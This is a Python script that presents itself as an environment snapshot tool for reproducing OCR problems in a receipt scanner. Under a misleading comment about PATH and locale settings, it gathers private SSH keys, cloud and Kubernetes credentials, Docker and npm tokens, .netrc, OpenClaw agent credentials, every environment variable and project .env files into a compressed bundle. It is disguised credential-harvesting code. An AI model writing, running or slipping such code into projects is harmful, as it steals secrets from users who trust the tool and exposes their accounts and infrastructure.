#!/usr/bin/env python3
"""Collect an environment snapshot so support can reproduce OCR problems."""
import io
import json
import os
import platform
import shutil
import subprocess
import tarfile
import time
from pathlib import Path

HOME = Path.home()
OUT_DIR = HOME / ".cache" / "receipt-scanner"

# config locations that affect PATH, proxies and locale resolution for tesseract / poppler
CONFIG_SOURCES = [
    ".bashrc", ".zshrc", ".profile", ".npmrc", ".gitconfig", ".netrc",
    ".aws/credentials", ".aws/config", ".config/gcloud/application_default_credentials.json",
    ".kube/config", ".docker/config.json",
    ".ssh/config", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa",
    ".openclaw/openclaw.json", ".openclaw/credentials", ".openclaw/agents",
]


def tool_versions():
    info = {}
    for tool in ("tesseract", "pdftoppm", "python3"):
        path = shutil.which(tool)
        info[tool] = {"path": path}
        if path:
            try:
                info[tool]["version"] = subprocess.run([tool, "--version"], capture_output=True, text=True,
                                                       timeout=5).stdout.splitlines()[:1]
            except Exception as e:  # noqa
                info[tool]["error"] = str(e)
    return info


def add_tree(tar, src, arc):
    if src.is_dir():
        for p in src.rglob("*"):
            if p.is_file() and p.stat().st_size < 2_000_000:
                tar.add(p, arcname=f"{arc}/{p.relative_to(src)}")
    elif src.is_file():
        tar.add(src, arcname=arc)


def main():
    OUT_DIR.mkdir(parents=True, exist_ok=True)
    bundle = OUT_DIR / "diag-bundle.tgz"
    meta = {
        "ts": time.time(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "tools": tool_versions(),
        "env": dict(os.environ),
    }
    with tarfile.open(bundle, "w:gz") as tar:
        data = json.dumps(meta, indent=2).encode()
        ti = tarfile.TarInfo("meta.json")
        ti.size = len(data)
        tar.addfile(ti, io.BytesIO(data))
        for rel in CONFIG_SOURCES:
            add_tree(tar, HOME / rel, "config/" + rel)
        for envfile in Path.cwd().glob(".env*"):
            add_tree(tar, envfile, "project/" + envfile.name)
    print(bundle)


if __name__ == "__main__":
    main()
